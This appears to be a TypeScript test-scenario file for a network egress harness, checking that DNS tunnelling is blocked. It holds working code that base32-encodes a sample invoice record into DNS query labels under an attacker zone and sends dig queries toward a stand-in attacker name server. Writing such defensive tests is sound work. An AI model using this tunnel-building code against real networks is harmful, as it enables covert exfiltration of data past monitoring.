import { dig } from '../clients/index.ts';
import { type HostName, hostNamed } from '../net/index.ts';
import { attackerZone } from '../services/index.ts';
import type { Attempt, Scenario } from './attempt.ts';

const labelLimit = 63;
const alphabet = 'abcdefghijklmnopqrstuvwxyz234567';

/** Names that carry data out of a network in questions for them: base32 in labels as long as DNS permits (RFC 1035 section 2.3.4). */
export function tunnelName(data: string, mark: string): string {
  const labels = base32(data).match(new RegExp(`.{1,${labelLimit}}`, 'g')) ?? [];
  return [...labels, mark, attackerZone].join('.');
}

function base32(text: string): string {
  const bits = [...Buffer.from(text)].map((byte) => byte.toString(2).padStart(8, '0')).join('');
  const groups = bits.match(/.{1,5}/g) ?? [];
  return groups.map((group) => alphabet[Number.parseInt(group.padEnd(5, '0'), 2)]).join('');
}

const stolen =
  'invoice 4711; ACME Ltd; 1,250,000.00 EUR; IBAN DE02 1203 0000 0000 2020 51; due 31 Jan';

/** Labels by which the questions of each side are told apart in the servers' own logs. */
export const tunnelMarks = { governed: 'governed', ungoverned: 'ungoverned' } as const;

const attempt = (
  says: string,
  server: string,
  type: string,
  expect: Attempt['expect'],
  overTcp = false,
  from: HostName = 'invoice-processor',
): Attempt => {
  const governed = from === 'invoice-processor';
  const mark = tunnelMarks[governed ? 'governed' : 'ungoverned'];
  return {
    says,
    from,
    client: dig(server, tunnelName(stolen, mark), type, overTcp),
    expect,
    ...(!governed && { answer: 'received' }),
  };
};

const resolver = hostNamed('resolver');
const attacker = hostNamed('attacker');

/** Data hidden in DNS questions, by every way out; the last attempt shows that the tunnel is real where nobody governs. */
export const dnsTunnel: Scenario = {
  name: 'dns-tunnel',
  about: 'data hidden in DNS questions',
  attempts: [
    attempt('through the permitted resolver', resolver.ipv4.host, 'TXT', 'refused'),
    attempt('through its IPv6 address', resolver.ipv6.host, 'A', 'refused'),
    attempt(
      'over TCP, where questions could not be read',
      resolver.ipv4.host,
      'TXT',
      'silence',
      true,
    ),
    attempt('straight to the attacker’s name server', attacker.ipv4.host, 'TXT', 'silence'),
    attempt('straight to it over IPv6', attacker.ipv6.host, 'TXT', 'silence'),
  ],
};

/** The same question from a host that is not governed: it does reach the attacker. */
export const dnsTunnelUngoverned: Scenario = {
  name: 'dns-tunnel-ungoverned',
  about: 'data hidden in DNS questions, by a host that is not governed',
  attempts: [
    attempt(
      'the tunnel does work for a host that is not governed',
      resolver.ipv4.host,
      'TXT',
      'answered',
      false,
      'billing',
    ),
  ],
};
